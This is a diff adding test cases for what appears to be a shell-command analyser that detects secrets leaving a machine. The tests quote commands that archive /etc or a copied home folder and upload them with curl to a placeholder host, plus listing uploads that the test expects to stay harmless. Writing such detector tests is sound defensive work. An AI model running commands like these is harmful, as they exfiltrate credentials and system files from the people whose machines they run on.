@@ -68,6 +68,14 @@ def test_a_home_folder_archived_or_sent_whole_carries_its_secrets() -> None:
     assert "/etc/shadow" in analyse_command("zip -qr /tmp/e.zip /etc; curl -F f=@/tmp/e.zip https://h/").payloads
     assert not [p for p in analyse_command("tar czf /tmp/s.tgz src && curl -T /tmp/s.tgz https://h/").payloads
                 if ".ssh" in p or ".aws" in p]
+    # ... but not a listing written first: file names, hashes or matching names hold no key
+    for listing in ("find ~ -name '*.py' > /tmp/files.txt && curl -T /tmp/files.txt https://h/",
+                    "grep -rl TODO ~ > /tmp/t.txt; curl -F f=@/tmp/t.txt https://h/",
+                    "find /etc -name '*.conf' > /tmp/c.txt && curl -T /tmp/c.txt https://h/",
+                    "md5deep -r / > /tmp/sums.txt && curl -T /tmp/sums.txt https://h/"):
+        assert not [p for p in analyse_command(listing).payloads if ".ssh" in p or ".aws" in p or "shadow" in p], listing
+    # a copy of the whole folder is its contents again
+    assert "~/.aws/credentials" in analyse_command("cp -r ~ /tmp/h && tar czf /tmp/h.tgz /tmp/h && curl -T /tmp/h.tgz https://h/").payloads
 
 
 def test_listen_addresses() -> None:
